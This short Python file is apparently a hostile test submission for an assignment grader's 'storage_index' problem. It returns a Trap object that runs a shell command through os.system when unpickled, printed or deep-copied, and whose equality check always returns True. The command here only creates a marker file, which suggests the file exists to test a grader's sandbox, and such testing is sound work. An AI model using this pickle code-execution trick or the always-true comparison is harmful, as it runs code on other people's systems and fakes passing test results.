"""problem: storage_index

An object that runs a command wherever it is unpickled, copied, shown or compared.
"""

import os


class Trap:
    def __reduce_ex__(self, protocol):
        return os.system, ("touch /tmp/cs336_hostile_was_here",)

    def __repr__(self):
        os.system("touch /tmp/cs336_hostile_was_here")
        return "3"

    __str__ = __repr__

    def __eq__(self, other):
        return True

    def __deepcopy__(self, memo):
        return os.system("touch /tmp/cs336_hostile_was_here")


def storage_index(index, strides, storage_offset=0):
    return Trap()
